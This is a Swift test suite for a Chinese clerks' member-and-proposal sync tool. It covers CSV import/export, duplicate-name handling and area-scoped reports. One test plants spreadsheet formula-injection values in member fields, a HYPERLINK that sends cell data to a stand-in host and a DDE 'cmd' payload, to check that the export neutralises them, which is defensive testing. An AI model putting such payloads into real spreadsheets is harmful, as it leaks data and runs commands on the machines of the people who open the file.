import CPPCC
import CPSyncCore
import Foundation
import Testing
import TestSupport

/// What a county's clerks do with their lists and reports, through the real binaries in a zh_CN locale: a member
/// list re-imported after a phone changed (GB18030 from older Excel, UTF-8 from newer, cpsync's own export) updates
/// the member instead of adding a second one, and a row that could be two members is skipped and listed, never
/// guessed; the proposal export names people and sites, keeps phone numbers and codes as text for Excel and runs no
/// formula; a township's or station's report covers its own area under its own name; a city's report is the city's,
/// with each county's totals.
@Suite(.serialized) struct ClerkImportExportReportTests {
    static let zh = ["LANG": "zh_CN.UTF-8"]

    /// `cpsync VERB SUB --db DB ARGS…` (the harness's `Office.cpsync` puts `--db` after the first word only).
    static func cpsync(_ words: [String], db: String, _ args: [String] = [], env: [String: String] = zh) throws -> RunResult {
        try run(Binaries.cpsync, words + ["--db", db] + args, env: env)
    }

    static func memberCount(_ db: String) throws -> Int {
        let r = try cpsync(["member", "list"], db: db, ["--json"])
        return try #require(try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [Any], "\(r.stdout) \(r.stderr)").count
    }

    /// One figure of the zh CSV report: the value on the line "scope,metric,value".
    static func figure(_ csv: String, _ scope: String, _ metric: String) -> String? {
        csv.split(whereSeparator: \.isNewline).map(String.init).first { $0.hasPrefix("\(scope),\(metric),") }
            .map { String($0.dropFirst(scope.count + metric.count + 2)) }
    }

    /// Whether `text` shows a record id (a UUID).
    static func showsID(_ text: String) -> Bool {
        text.firstMatch(of: try! Regex("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")) != nil
    }

    @Test func reimportingTheMemberListAfterAPhoneChangedUpdatesTheMemberAndNeverAddsASecondOne() throws {
        let ws = TempDir("clerk-import")
        defer { ws.cleanup() }
        let db = ws.path("county.db")
        #expect(try run(Binaries.cpsync, ["demo", "seed", "--db", db]).ok)
        let seeded = try Self.memberCount(db)
        func reportMembers() throws -> String? {
            Self.figure(try Self.cpsync(["report"], db: db, ["--year", "2026", "--format", "csv"]).stdout, "合计", "委员")
        }

        // The office's list, saved as "CSV" by older Excel (GB18030): two members named 李娜, told apart by their phones.
        let list = "序号,姓名,性别,界别,电话,备注\r\n1,欧阳明,男,经济,13811112222,\r\n2,司马丽,女,教育,0937-5551234,\r\n"
            + "3,李娜,女,科技,13700000001,\r\n4,李娜,女,医药卫生,13700000002,同名委员\r\n"
        let file = ws.path("委员名单.csv")
        try ImportEndToEndTests.iconv(list, to: "GB18030", in: ws).write(to: URL(fileURLWithPath: file))
        let first = try Self.cpsync(["import", "members", file], db: db)
        #expect(first.ok && first.stdout.contains("新增 4 条"), "\(first.stdout) \(first.stderr)")
        #expect(first.stderr.contains("第 5 行") && first.stderr.contains("第 4 行") && first.stderr.contains("另一位委员"),
                "two people of one name are added, and said so: \(first.stderr)")
        #expect(try Self.memberCount(db) == seeded + 4)
        #expect(try reportMembers() == "\(seeded + 4)")

        // A month later 欧阳明's phone changed; the clerk saves the list again from the same old Excel.
        try ImportEndToEndTests.iconv(list.replacingOccurrences(of: "13811112222", with: "13999998888"), to: "GB18030", in: ws)
            .write(to: URL(fileURLWithPath: file))
        let second = try Self.cpsync(["import", "members", file], db: db)
        #expect(second.ok, "\(second.stderr)")
        #expect(second.stdout.contains("新增 0 条，更新 1 条，未变 3 条，跳过 0 行"), "\(second.stdout)")
        #expect(second.stdout.contains("第 2 行  欧阳明 (13999998888)（电话：13811112222 → 13999998888）"), "the summary says what changed: \(second.stdout)")
        #expect(try Self.memberCount(db) == seeded + 4, "no second 欧阳明")
        #expect(try reportMembers() == "\(seeded + 4)", "the report's member count does not inflate")
        #expect(try Self.cpsync(["member", "show", "欧阳明"], db: db).stdout.contains("13999998888"))

        // A 李娜 whose phone fits neither: not guessed; the line is skipped and listed with both candidates, the rest
        // of the file is imported (newer Excel: "CSV UTF-8" with its BOM).
        let utf8 = ws.path("补充.csv")
        try Data("\u{FEFF}姓名,电话,职务\r\n李娜,13700009999,主任\r\n司马丽,0937-5551234,副主任\r\n".utf8)
            .write(to: URL(fileURLWithPath: utf8))
        let third = try Self.cpsync(["import", "members", utf8], db: db)
        #expect(third.ok, "\(third.stderr)")
        #expect(third.stdout.contains("新增 0 条，更新 1 条，未变 0 条，跳过 1 行"), "\(third.stdout)")
        #expect(third.stdout.contains("跳过（未导入）") && third.stdout.contains("第 2 行  李娜 (13700009999)")
                && third.stdout.contains("13700000001") && third.stdout.contains("13700000002") && third.stdout.contains("编号"),
                "the skipped line, why, and the fix: \(third.stdout)")
        #expect(third.stderr.contains("警告：有 1 行未导入（第 2 行）"), "\(third.stderr)")
        #expect(try Self.memberCount(db) == seeded + 4)

        // cpsync's own export, edited and saved again: phone numbers came out as text (="…") and the rows match by 编号.
        let exported = ws.path("导出.csv")
        #expect(try Self.cpsync(["export", "members"], db: db, ["--out", exported]).ok)
        let text = try String(contentsOfFile: exported, encoding: .utf8)
        #expect(text.contains("\"=\"\"0937-5551234\"\"\"") && text.contains("\"=\"\"13999998888\"\"\""), "\(text)")
        try Data(text.replacingOccurrences(of: "0937-5551234", with: "0937-5559999").utf8).write(to: URL(fileURLWithPath: exported))
        let fourth = try Self.cpsync(["import", "members", exported], db: db)
        #expect(fourth.ok && fourth.stdout.contains("新增 0 条，更新 1 条") && fourth.stdout.contains("电话：0937-5551234 → 0937-5559999"),
                "\(fourth.stdout) \(fourth.stderr)")
        #expect(try Self.memberCount(db) == seeded + 4)
    }

    @Test func theProposalExportNamesCoSignersAndSitesKeepsNumberCodesAsTextAndRunsNoFormula() throws {
        let ws = TempDir("clerk-export")
        defer { ws.cleanup() }
        let db = ws.path("county.db")
        #expect(try run(Binaries.cpsync, ["demo", "seed", "--db", db]).ok)
        #expect(try Self.cpsync(["member", "add"], db: db, ["--name", "欧阳明", "--site", "huashan", "--phone", "0937-1234567",
                                                             "--employer==HYPERLINK(\"http://x.example/?q=\"&A1,\"点此查看\")"]).ok)
        #expect(try Self.cpsync(["member", "add"], db: db, ["--name", "司马丽", "--site", "huashan", "--phone", "13800000001",
                                                             "--employer=@SUM(1+1)*cmd|' /C calc'!A0", "--position=-主任"]).ok)
        try Database(path: db).run("UPDATE proposals SET review_note = '+1 同意', body = '=1+2' WHERE id = 'p2026-001'")

        let proposalsFile = ws.path("提案.csv"), membersFile = ws.path("委员.csv")
        #expect(try Self.cpsync(["export", "proposals"], db: db, ["--out", proposalsFile]).ok)
        #expect(try Self.cpsync(["export", "members"], db: db, ["--out", membersFile]).ok)
        let proposals = try CSV.parse(try String(contentsOfFile: proposalsFile, encoding: .utf8)).map(\.fields)
        let members = try CSV.parse(try String(contentsOfFile: membersFile, encoding: .utf8)).map(\.fields)
        let ph = proposals[0]
        func cell(_ row: [String], _ header: String, in h: [String]) throws -> String { row[try #require(h.firstIndex(of: header), "\(header) in \(h)")] }
        func proposal(_ id: String) throws -> [String] { try #require(proposals.first { $0.first == id }, "\(id)") }

        // People and places by name; the ids stay in their own columns, so the file imports back.
        #expect(try cell(proposal("p2026-001"), "联名委员", in: ph) == "刘芳")
        #expect(try cell(proposal("p2026-001"), "站点", in: ph) == "华山镇政协工委")
        #expect(try Set(cell(proposal("p2026-002"), "联名委员", in: ph).split(separator: "、").map(String.init)) == ["杨丽", "王建国"])
        #expect(try cell(proposal("p2026-006"), "并入提案", in: ph) == "=\"2026-005\"", "the target's 案号, as text")
        for row in proposals.dropFirst() {
            for header in ["第一提案人", "联名委员", "站点", "并入提案"] {
                #expect(try !Self.showsID(cell(row, header, in: ph)), "\(header) shows an id: \(row)")
            }
        }
        // Number codes are text for Excel (="…"); every other cell that would start a formula starts with an apostrophe.
        let mh = members[0]
        func member(_ name: String) throws -> [String] { try #require(members.first { $0.count > 1 && $0[1] == name }, "\(name)") }
        #expect(try cell(member("欧阳明"), "电话", in: mh) == "=\"0937-1234567\"")
        #expect(try cell(member("司马丽"), "电话", in: mh) == "=\"13800000001\"")
        #expect(try cell(member("欧阳明"), "工作单位", in: mh) == "'=HYPERLINK(\"http://x.example/?q=\"&A1,\"点此查看\")")
        #expect(try cell(member("司马丽"), "工作单位", in: mh).hasPrefix("'@SUM") && cell(member("司马丽"), "职务", in: mh) == "'-主任")
        #expect(try cell(proposal("p2026-001"), "内容", in: ph) == "'=1+2" && cell(proposal("p2026-001"), "审查意见", in: ph) == "'+1 同意")
        for (file, rows) in [("委员", members), ("提案", proposals)] {
            for row in rows { for c in row where ["=", "+", "-", "@", "\t", "\r"].contains(where: { c.hasPrefix($0) }) {
                #expect(c.hasPrefix("=\"") && c.hasSuffix("\"") && c.dropFirst(2).dropLast().allSatisfy { $0.isNumber || " +-()/.".contains($0) },
                        "\(file): a cell would run as a formula: \(c)")
            } }
        }
        // Imported again, both files change nothing: the values come back as they were.
        let m = try Self.cpsync(["import", "members", membersFile], db: db)
        #expect(m.ok && m.stdout.contains("新增 0 条，更新 0 条"), "\(m.stdout) \(m.stderr)")
        let p = try Self.cpsync(["import", "proposals", proposalsFile], db: db)
        #expect(p.ok && p.stdout.contains("新增 0 条，更新 0 条"), "\(p.stdout) \(p.stderr)")
        #expect(try Self.cpsync(["member", "show", "欧阳明"], db: db).stdout.contains("=HYPERLINK"))
    }

    @Test func aTownshipOrStationReportCoversItsOwnAreaUnderItsOwnNameAndNamesNoProposerById() throws {
        let county = try County("clerk-report", sites: ["huashan", "chengguan"], start: false)
        defer { county.cleanup() }
        var tokens = county.tokens
        tokens["xinjie"] = try county.daemon.addSite("xinjie", name: "新街社区联络站", kind: "station", parent: "huashan")
        try county.daemon.start()
        func office(_ site: String) throws -> Office { try Office.create(site, in: county.ws, daemon: county.daemon, token: tokens[site]!) }
        let countyOffice = try office("county"), huashan = try office("huashan"), xinjie = try office("xinjie")
        for o in [countyOffice, huashan, xinjie] { try o.must(["sync"]) }
        // The county office enters the year: 华山镇 3 received, 1 filed (a key proposal led by a county member);
        // 新街 (under 华山镇) 1 received; 城关镇 2 received, both filed (one key, led by its own member).
        let ids = (0..<3).map { _ in UUID().uuidString.lowercased() }
        let (wangli, liqiang, chen) = (ids[0], ids[1], ids[2])
        try countyOffice.sql("INSERT INTO members(id, name, gender, site_id) VALUES (?, '王丽', '女', 'huashan'), (?, '李强', '男', 'chengguan'), (?, '陈国华', '男', 'county')",
                             [.text(wangli), .text(liqiang), .text(chen)])
        for (id, number, site, status, key, proposer) in [
            ("hp1", "2026-001", "huashan", "filed", 1, chen), ("hp2", "huashan-2026-001", "huashan", "submitted", 0, wangli),
            ("hp3", "huashan-2026-002", "huashan", "not_filed", 0, wangli), ("xp1", "xinjie-2026-001", "xinjie", "submitted", 0, wangli),
            ("cp1", "2026-002", "chengguan", "filed", 0, liqiang), ("cp2", "2026-003", "chengguan", "filed", 1, liqiang),
        ] {
            try countyOffice.sql("INSERT INTO proposals(id, number, session, year, title, site_id, status, is_key, proposer_id, submitted_on) VALUES (?, ?, '八届四次会议', 2026, ?, ?, ?, ?, ?, '2026-01-12')",
                                 [.text(id), .text(number), .text("关于\(id)的提案"), .text(site), .text(status), .integer(Int64(key)), .text(proposer)])
        }
        try countyOffice.must(["sync"])
        for o in [huashan, xinjie] { try o.must(["sync"]) }

        // 华山镇's report: its own area (新街 included) under its own name, the same rates as the county's view of it.
        let own = try huashan.cpsync(["report", "--year", "2026", "--format", "csv"], env: Self.zh)
        #expect(own.ok, "\(own.stderr)")
        #expect(Self.figure(own.stdout, "报表", "标题") == "华山镇政协工委 2026 年度工作统计", "\(own.stdout.prefix(200))")
        #expect(Self.figure(own.stdout, "报表", "委员会") == "华山镇政协工委")
        #expect(Self.figure(own.stdout, "合计", "收到提案") == "4" && Self.figure(own.stdout, "合计", "立案率") == "25.0%", "\(own.stdout)")
        let atCounty = try countyOffice.cpsync(["report", "--year", "2026", "--format", "csv", "--site", "huashan"], env: Self.zh)
        #expect(Self.figure(atCounty.stdout, "合计", "立案率") == "25.0%" && Self.figure(atCounty.stdout, "合计", "收到提案") == "4", "\(atCounty.stdout)")
        let whole = try countyOffice.cpsync(["report", "--year", "2026", "--format", "csv"], env: Self.zh)
        #expect(Self.figure(whole.stdout, "报表", "标题") == "某县政协 2026 年度工作统计" && Self.figure(whole.stdout, "合计", "立案率") == "50.0%")
        // The key proposal led by a county member 华山镇 does not hold: a neutral label, never the id.
        let text = try huashan.cpsync(["report", "--year", "2026"], env: Self.zh)
        #expect(text.ok && text.stdout.hasPrefix("华山镇政协工委 2026 年度工作统计"), "\(text.stdout.prefix(200))")
        #expect(text.stdout.contains("其他站点委员") && !text.stdout.contains(chen) && !Self.showsID(text.stdout), "\(text.stdout)")
        #expect(!text.stdout.contains("2026-003"), "城关镇's key proposal is not 华山镇's")
        // The station's report is its own; another township's is not 华山镇's to make (its data is not all there).
        let station = try xinjie.cpsync(["report", "--year", "2026", "--format", "csv"], env: Self.zh)
        #expect(Self.figure(station.stdout, "报表", "标题") == "新街社区联络站 2026 年度工作统计" && Self.figure(station.stdout, "合计", "收到提案") == "1",
                "\(station.stdout)")
        let other = try huashan.cpsync(["report", "--year", "2026", "--site", "chengguan"], env: Self.zh)
        #expect(other.status == 65 && other.stderr.contains("本办公室（华山镇政协工委）只保存本辖区的完整数据") && other.stderr.contains("城关镇政协工委"),
                "\(other.stderr)")
        let below = try huashan.cpsync(["report", "--year", "2026", "--site", "xinjie", "--format", "csv"], env: Self.zh)
        #expect(Self.figure(below.stdout, "报表", "标题") == "华山镇政协工委 2026 年度工作统计（新街社区联络站及下属站点）", "\(below.stdout.prefix(300))")
    }

    @Test func aCityReportIsTitledWithTheCityAndEachCountyRowCountsItsSubtree() throws {
        let ws = TempDir("clerk-city")
        defer { ws.cleanup() }
        let (city, cityToken) = try TierTests.makeCity(ws)
        // 滨江区 sorts before 杭州市 in pinyin: the title must still be the city's.
        let a = try TierTests.TierCounty("330108", name: "滨江区政协", offices: [("330108-xixing", "西兴街道政协工委")], serverID: "330108-cpsyncd", ws: ws, city: city)
        let b = try TierTests.TierCounty("330106", name: "西湖区政协", offices: [("330106-lingyin", "灵隐街道政协工委"), ("330106-xixi", "西溪街道政协工委")],
                                         serverID: "330106-cpsyncd", ws: ws, city: city)
        defer { city.stop(); a.daemon.stop(); b.daemon.stop() }
        try city.start()
        try a.daemon.start()
        try b.daemon.start()
        let cityOffice = try Office.create(TierTests.cityCode, in: ws, daemon: city, token: cityToken)
        for (c, site, proposals) in [(a, "330108-xixing", 3), (b, "330106-lingyin", 1), (b, "330106-xixi", 2)] {
            let o = try c.office(site, ws: ws)
            try o.must(["sync"])
            try o.sql("INSERT INTO members(id, name, gender, site_id) VALUES (?, ?, '女', ?)", [.text(UUID().uuidString.lowercased()), .text("委员·\(site)"), .text(site)])
            for n in 0..<proposals {
                try o.sql("INSERT INTO proposals(id, title, session, year, site_id, status) VALUES (?, ?, '八届四次会议', 2026, ?, 'submitted')",
                          [.text(UUID().uuidString.lowercased()), .text("关于\(site)第\(n + 1)件事的建议"), .text(site)])
            }
            try o.must(["sync"])
        }
        for c in [a, b] { let r = try c.uplink(to: city); #expect(r.ok, "uplink \(c.code): \(r.stderr)") }
        try cityOffice.must(["sync"])

        let csv = try cityOffice.cpsync(["report", "--year", "2026", "--format", "csv"], env: Self.zh)
        #expect(csv.ok, "\(csv.stderr)")
        #expect(Self.figure(csv.stdout, "报表", "标题") == "杭州市政协 2026 年度工作统计", "\(csv.stdout.prefix(300))")
        #expect(Self.figure(csv.stdout, "合计", "收到提案") == "6" && Self.figure(csv.stdout, "合计", "委员") == "3", "\(csv.stdout)")
        #expect(Self.figure(csv.stdout, "滨江区政协", "收到提案") == "3" && Self.figure(csv.stdout, "滨江区政协", "委员") == "1", "\(csv.stdout)")
        #expect(Self.figure(csv.stdout, "西湖区政协", "收到提案") == "3" && Self.figure(csv.stdout, "西湖区政协", "委员") == "2", "\(csv.stdout)")
        // One row per county (not every street of every county), the city first.
        #expect(Self.figure(csv.stdout, "灵隐街道政协工委", "收到提案") == nil, "\(csv.stdout)")
        let text = try cityOffice.cpsync(["report", "--year", "2026"], env: Self.zh)
        #expect(text.stdout.hasPrefix("杭州市政协 2026 年度工作统计"), "\(text.stdout.prefix(200))")
        let header = try #require(text.stdout.split(separator: "\n").first { $0.hasPrefix("项目") }, "\(text.stdout)")
        let order = ["杭州市政协", "滨江区政协", "西湖区政协"].map { header.range(of: $0)?.lowerBound }
        #expect(order.allSatisfy { $0 != nil } && order[0]! < order[1]! && order[1]! < order[2]!, "\(header)")
    }
}
